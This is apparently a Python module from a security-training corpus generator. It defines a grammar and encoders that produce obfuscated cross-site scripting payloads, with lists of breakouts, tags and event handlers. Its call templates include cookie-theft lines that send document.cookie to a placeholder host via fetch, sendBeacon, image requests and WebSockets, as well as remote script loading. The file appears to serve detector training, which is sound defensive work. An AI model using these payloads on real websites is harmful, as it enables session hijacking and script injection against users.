"""What all cross-site scripting grammars share: scripts, handlers, tags, ways out."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.attacks.style import mixed_case, percent

_LATIN = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
_CALLS = ("alert(1)", "alert(document.cookie)", "eval(name)", "prompt(1)", "confirm()", "alert`1`")


def _call(rng: Random) -> str:
    return _CALLS[int(rng.random() * len(_CALLS))]


def entities(rng: Random) -> str:
    """A script URL or call in HTML character references of one style."""
    text = ("javascript:" if rng.random() < 0.7 else "") + _call(rng)
    style = int(rng.random() * 6)
    pads = (0, 7, 0, 5, 4, 0)[style]
    close = ";" if rng.random() < 0.6 else ""
    if style in {0, 1}:
        return "".join([f"&#{ord(char):0{pads}d}{close}" for char in text])
    if style in {2, 3}:
        return "".join([f"&#x{ord(char):0{pads}x}{close}" for char in text])
    return "".join(
        [f"&#{ord(char)}{close}" if rng.random() < 0.35 else char for char in text]
    ).replace(":", ("&colon;", "&#58;", ":", "&#x3A;")[int(rng.random() * 4)])


def char_codes(rng: Random) -> str:
    """A call as numbers for String.fromCharCode."""
    return ",".join([str(ord(char)) for char in _call(rng)])


def js_escapes(rng: Random) -> str:
    r"""A call or name in \x, \u or octal escapes."""
    text = ("alert", "eval", "prompt", "confirm", "document", "javascript:alert(1)", "<img src=x>")[
        int(rng.random() * 7)
    ]
    style = int(rng.random() * 4)
    if style == 0:
        return "".join([f"\\x{ord(char):02x}" for char in text])
    if style == 1:
        return "".join([f"\\u{ord(char):04x}" for char in text])
    if style == 2:
        return "".join([f"\\u{{{ord(char):x}}}" for char in text])
    return "".join([f"\\{ord(char):o}" for char in text])


def split_string(rng: Random) -> str:
    """A tell-tale word cut into joined string literals."""
    text = ("alert", "eval", "javascript:alert(1)", "document", "constructor", "cookie", "prompt")[
        int(rng.random() * 7)
    ]
    cuts = sorted(
        {1 + int(rng.random() * (len(text) - 1)) for _ in range(1 + int(rng.random() * 3))}
    )
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    quote = "'\"`"[int(rng.random() * 3)]
    return "+".join([quote + piece + quote for piece in pieces])


def jsfuck(rng: Random) -> str:
    """A run of code written in brackets, signs and exclamation marks only."""
    atoms = ("[]", "![]", "!![]", "+[]", "(![]+[])", "(!![]+[])", "[+!+[]]", "[!+[]+!+[]]",
             "[+[]]", "[][[]]", "([][[]]+[])", "+!+[]", "[![]]", "(+[![]]+[])", "(+(!+[]+[]))")  # fmt: skip
    count = 4 + int(rng.expovariate(0.08))
    return "".join(
        [
            atoms[int(rng.random() * len(atoms))] + ("+" if rng.random() < 0.5 else "")
            for _ in range(min(count, 60))
        ]
    )


def base64_html(rng: Random) -> str:
    """Markup that runs a script, in base64."""
    call = _call(rng)
    markup = (
        f"<script>{call}</script>", f"<svg onload={call}>", f"<svg/onload={call}>", call,
        f"<img src=x onerror={call}>", f"<body onload='{call}'>", f"<html><script>{call}//",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{call}</script></svg>',
        f"{' ' * int(rng.random() * 3)}{draw(rng, _LATIN, 1, 6)}<script>{call}</script>",
    )[int(rng.random() * 9)]  # fmt: skip
    return b64encode(markup.encode()).decode()


FUNCTIONS = {
    "b64x": base64_html,
    "ents": entities,
    "codes": char_codes,
    "escs": js_escapes,
    "split": split_string,
    "fuck": jsfuck,
    "custom": lambda rng: draw(rng, _LATIN, 1, 7),
}

XSS = Grammar(
    r"""
f = alert¦alert¦alert¦prompt¦confirm¦print¦console.log¦eval¦document.write¦fetch¦import¦setTimeout¦window.open¦open¦atob
arg:
  4×1
  2×‹n›
  3×document.domain
  3×document.cookie
  'XSS'
  "XSS"
  'xss'
  /xss/
  `‹az›`
  '‹az›'
  "‹az4›"
  document.location
  location
  origin
  window.origin
  document.URL
  localStorage.token
  localStorage.getItem('‹az›')
  ‹e›
  1337
  ‹big›
  String.fromCharCode(‹codes›)
  /‹az›/.source
  self
  this
  name
  navigator.userAgent
  ‹d1›+‹d1›
  "‹rnd›"
call:
  8×alert(‹arg›)
  3×prompt(‹arg›)
  3×confirm(‹arg›)
  2×alert`‹n›`
  print()
  ‹f›(‹arg›)
  window['alert'](‹arg›)
  window[‹split›](‹arg›)
  top[‹split›](‹arg›)
  self[‹split›](‹arg›)
  parent["‹escs›"](‹arg›)
  this['‹escs›'](‹arg›)
  globalThis[‹split›](‹arg›)
  frames['ale'+'rt'](‹arg›)
  top[/al/.source+/ert/.source](‹arg›)
  top[8680439..toString(30)](‹arg›)
  \u0061lert(‹arg›)
  al\u0065rt(‹arg›)
  (alert)(‹arg›)
  (0,alert)(‹arg›)
  [alert][0](‹arg›)
  [‹arg›].find(alert)
  [‹n›].map(alert)
  [1,alert,1][1](1)
  alert.call(null,‹arg›)
  alert?.(‹arg›)
  Reflect.apply(alert,null,[‹arg›])
  new Function('ale'+'rt(‹n›)')()
  Function('ale'+'rt(‹d1›)')()
  Function`a${`alert\x28‹n›\x29`}```
  [].constructor.constructor('alert(‹n›)')()
  [].filter.constructor('alert(‹n›)')()
  ''.constructor.constructor`alert(‹n›)```
  eval('ale'+'rt(‹n›)')
  eval(atob('‹b64x›'))
  eval(String.fromCharCode(‹codes›))
  eval(location.hash.slice(1))
  eval(name)
  eval(unescape('%61%6c%65%72%74%28%31%29'))
  eval(decodeURIComponent(location.search))
  (a=alert,a(‹arg›))
  a=alert,a(‹arg›)
  x=alert;x(‹arg›)
  setTimeout('alert(‹n›)')
  setTimeout`alert\x28document.domain\x29`
  setInterval(‹split›+'(‹d1›)')
  throw onerror=alert,‹n›
  {onerror=alert}throw ‹n›
  {throw onerror=eval,'=alert\x281\x29'}
  onerror=alert;throw‹sp›‹n›
  import('//‹hostport›/‹path1›')
  import('data:text/javascript,alert(‹n›)')
  fetch('//‹host›/?c='+document.cookie)
  fetch('‹url›',{method:'POST',body:document.cookie})
  new Image().src='//‹host›/?'+document.cookie
  (new Image).src='‹url›?c='+escape(document.cookie)
  document.location='http://‹host›/?c='+document.cookie
  location='javascript:alert\x28‹n›\x29'
  location.href='//‹host›/?'+document.cookie
  location=name
  window.location='‹url›'
  document.write('<script src=//‹host›></script>')
  document.write(‹arg›)
  document.body.innerHTML='<h1>‹az›</h1>'
  document.body.appendChild(document.createElement('script')).src='//‹host›/‹path1›'
  s=document.createElement('script');s.src='//‹host›';document.head.append(s)
  $.getScript('//‹host›/‹path1›')
  jQuery.globalEval('alert(‹n›)')
  navigator.sendBeacon('//‹host›',document.cookie)
  var x=new XMLHttpRequest();x.open('GET','‹url›?'+document.cookie);x.send()
  new WebSocket('wss://‹host›').send(document.cookie)
  with(document)alert(cookie)
  document['cookie']
  document.forms[0].action='‹url›'
  document.defaultView.alert(‹n›)
  event.view.alert(‹n›)
  Set.constructor`al\x65rt\x28‹n›\x29```
  ‹fuck›
  javascript:alert(‹arg›)
  alert&lpar;‹n›&rpar;
  alert&#40;‹n›&#41;
  &#97;lert(‹n›)
  %61lert(‹n›)
  alert\`‹n›\`
  void(alert(‹n›))
  Object.assign(location,{href:'javascript:alert(1)'})
  parent.postMessage('‹az›','*')
  queueMicrotask(alert)
ev = onerror¦onload¦onclick¦onmouseover¦onfocus¦onblur¦ontoggle¦onstart¦onmouseenter¦onmouseleave¦onmouseout¦onmousedown¦onmouseup¦onmousemove¦onpointerover¦onpointerenter¦onpointerdown¦onpointerup¦onpointermove¦onpointerrawupdate¦onkeydown¦onkeyup¦onkeypress¦oninput¦onchange¦onsubmit¦onreset¦onselect¦onscroll¦onscrollend¦onwheel¦onmousewheel¦oncopy¦oncut¦onpaste¦onbeforecopy¦onbeforecut¦onbeforepaste¦ondrag¦ondragstart¦ondragend¦ondragenter¦ondragover¦ondragleave¦ondrop¦onanimationstart¦onanimationend¦onanimationiteration¦onanimationcancel¦ontransitionend¦ontransitionrun¦ontransitionstart¦onwebkitanimationstart¦onwebkittransitionend¦onhashchange¦onpopstate¦onpageshow¦onpagehide¦onbeforeunload¦onunload¦onresize¦onmessage¦onstorage¦onplay¦onplaying¦onpause¦onended¦onloadstart¦onloadend¦onloadeddata¦onloadedmetadata¦oncanplay¦oncanplaythrough¦ontimeupdate¦onvolumechange¦onseeking¦onseeked¦onwaiting¦onstalled¦onsuspend¦onemptied¦ondurationchange¦onratechange¦onprogress¦onabort¦oncuechange¦onfocusin¦onfocusout¦onauxclick¦oncontextmenu¦ondblclick¦oninvalid¦onsearch¦onshow¦onclose¦oncancel¦onbegin¦onend¦onrepeat¦ontouchstart¦ontouchend¦ontouchmove¦onfullscreenchange¦onbeforeinput¦onbeforetoggle¦onselectionchange¦onselectstart¦onafterprint¦onbeforeprint¦onformdata¦onslotchange¦onsecuritypolicyviolation¦onunhandledrejection¦ongotpointercapture¦onlostpointercapture¦onactivate¦onbeforeactivate¦ondeactivate¦onbounce¦onfinish¦onpropertychange¦onreadystatechange¦onrowsenter¦oncontentvisibilityautostatechange¦onbeforescriptexecute¦onafterscriptexecute¦onDOMContentLoaded¦onwebkitmouseforcechanged¦onbeforematch¦onresume¦ontrack¦onmediacomplete
tag = img¦svg¦body¦iframe¦video¦audio¦input¦details¦marquee¦a¦div¦button¦form¦object¦embed¦select¦textarea¦math¦script¦style¦link¦base¦meta¦isindex¦keygen¦frameset¦frame¦table¦td¦tr¦th¦p¦span¦b¦i¦u¦s¦h1¦x¦xss¦custom-tag¦image¦animate¦set¦source¦track¦picture¦canvas¦applet¦bgsound¦layer¦ilayer¦dialog¦summary¦meter¦progress¦output¦fieldset¦legend¦label¦option¦optgroup¦datalist¦map¦area¦article¦aside¦section¦nav¦header¦footer¦main¦figure¦figcaption¦mark¦time¦ruby¦rt¦bdi¦bdo¦wbr¦template¦slot¦noscript¦noembed¦noframes¦plaintext¦xmp¦listing¦center¦font¦big¦small¦tt¦strike¦nobr¦blink¦abbr¦acronym¦cite¦code¦dfn¦em¦kbd¦q¦samp¦strong¦sub¦sup¦var¦del¦ins¦dl¦dt¦dd¦ul¦ol¦li¦dir¦menu¦menuitem¦command¦content¦element¦shadow¦hgroup¦multicol¦spacer¦basefont¦rb¦rtc¦search¦foreignObject¦discard¦fencedframe¦portal
gap:
  8×‹sp›
  2×/
  //
  ‹tab›
  ‹nl›
  ‹ff›
  %09
  %0a
  %0d
  /**/
  ‹sp›‹sp›
  /‹az›/
  /~/
  /x="‹az›"/
  %0c
eq:
  10×=
  ‹sp›=‹sp›
  %20=%20
  =‹sp›
  ‹nl›=
  %3d
hq:
  4×‹e›
  4×"
  2×'
  `
closing:
  5×>
  2×‹sp›/>
  //
  ‹e›
  ><!--
  >‹az›
  >test</‹tag›>
  >XSS
  ></‹tag›>
  <
  >//
break:
  6×‹e›
  5×">
  4×'>
  2×"/>
  '/>
  2×>
  "'>
  '">
  "><
  --></script>
  -->
  ]]>
  </title>
  </textarea>
  </script>
  </style>
  </noscript>
  </select>
  </template>
  </iframe>
  </xmp>
  </option></select>
  </a>
  "></‹tag›>
  ');
  ");
  '});
  `>
  %22%3E
  \">
  \"/>
  &quot;>
  "><!--
  </title></head><body>
  */
  </noembed>
  <<
  ?>
start:
  3×‹e›
  2×‹pre›‹break›
  5×‹break›
tailx:
  8×‹e›
  <"
  <!--
  //
  "
  '
  <x="
  ‹word›
  <b a="
  ‹az›
""",
    PARTS,
    {**FUNCTIONS, "ff": lambda rng: "\f"},
)


def html_case(rng: Random, text: str) -> str:
    """As written, or (one time in seven) with mixed case all over."""
    roll = rng.random()
    if roll < 0.84:
        return text
    return text.upper() if roll < 0.9 else mixed_case(rng, text)


def html_escape(rng: Random, text: str) -> str:
    """Rarely percent-encoded or entity-encoded as lists have it."""
    roll = rng.random()
    if roll < 0.93:
        return text
    if roll < 0.97:
        return percent(text)
    if roll < 0.98:
        return text.replace("<", "%3C").replace(">", "%3E")
    if roll < 0.99:
        return text.replace("<", "\\x3c").replace(">", "\\x3e")
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


POSTS = (html_case, html_escape)
